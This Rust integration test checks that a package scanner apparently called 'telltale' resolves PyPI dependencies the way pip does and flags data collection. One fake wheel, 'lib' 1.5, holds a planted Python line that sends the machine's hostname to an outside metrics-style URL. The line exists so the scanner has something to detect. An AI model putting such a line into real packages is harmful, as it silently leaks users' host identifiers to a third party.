//! `pypi:` targets and their `--deps` install closure through an index served on loopback.

use sha2::Digest;
use std::io::Write;
use std::process::Command;
use telltale_registry::testing::FakeRegistry;

/// A wheel: `NAME-VERSION.dist-info/METADATA` with these `Requires-Dist` lines, and a module.
fn wheel(name: &str, version: &str, requires: &[&str], module: &str) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    let mut metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    for r in requires {
        metadata.push_str(&format!("Requires-Dist: {r}\n"));
    }
    metadata.push_str("\nA description.\n");
    zip.start_file(format!("{name}-{version}.dist-info/METADATA"), opts)
        .unwrap();
    zip.write_all(metadata.as_bytes()).unwrap();
    zip.start_file(format!("{name}/__init__.py"), opts).unwrap();
    zip.write_all(module.as_bytes()).unwrap();
    zip.finish().unwrap().into_inner()
}

fn index(dists: &[(&str, &str, Vec<u8>)]) -> FakeRegistry {
    let hex = |b: &[u8]| {
        sha2::Sha256::digest(b)
            .iter()
            .map(|x| format!("{x:02x}"))
            .collect::<String>()
    };
    let mut routes = Vec::new();
    let mut pages: std::collections::BTreeMap<&str, Vec<serde_json::Value>> = Default::default();
    for (name, version, bytes) in dists {
        let file = format!("{name}-{version}-py3-none-any.whl");
        pages.entry(name).or_default().push(serde_json::json!({ "filename": file, "url": format!("../../files/{file}"), "hashes": { "sha256": hex(bytes) } }));
        routes.push((format!("/files/{file}"), bytes.clone()));
    }
    for (name, files) in pages {
        routes.push((
            format!("/simple/{name}/"),
            serde_json::to_vec(&serde_json::json!({ "files": files })).unwrap(),
        ));
    }
    FakeRegistry::with_routes(routes)
}

#[test]
fn pypi_deps_follows_requirements_as_pip_would() {
    let reg = index(&[
        ("app", "1.0", wheel("app", "1.0", &["lib (>=1.0,<2)", "winonly ; sys_platform == \"win32\"", "extra-dep ; extra == \"cli\""], "import lib\n")),
        ("lib", "1.5", wheel("lib", "1.5", &[], "import os, urllib.request\nurllib.request.urlopen('https://t.example-metrics.top/?h=' + os.uname().nodename)\n")),
        ("lib", "2.0", wheel("lib", "2.0", &[], "x = 1\n")),
        ("winonly", "1.0", wheel("winonly", "1.0", &[], "x = 1\n")),
    ]);
    let cache = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_telltale"))
        .args([
            "scan",
            "--no-config",
            "--format",
            "json",
            "--platform",
            "linux-x64",
            "--deps",
            "--pypi-index",
            &format!("{}simple/", reg.url),
            "pypi:app",
        ])
        .env("TELLTALE_CACHE_DIR", cache.path())
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    let names: Vec<&str> = doc["targets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["target"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "product pypi:app==1.0 (2 packages)",
            "pypi:app==1.0",
            "pypi:lib==1.5 (dependency of app==1.0)"
        ],
        "lib 1.5 fits <2; the win32 and extra requirements are not installed: {doc}"
    );
    let product = &doc["targets"][0];
    let host = product["label"]["collects"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["kind"] == "hostname")
        .unwrap_or_else(|| panic!("{product}"));
    assert_eq!(host["packages"], serde_json::json!(["lib@1.5"]));
    assert_eq!(product["coverage"]["complete"], true, "{product}");
}
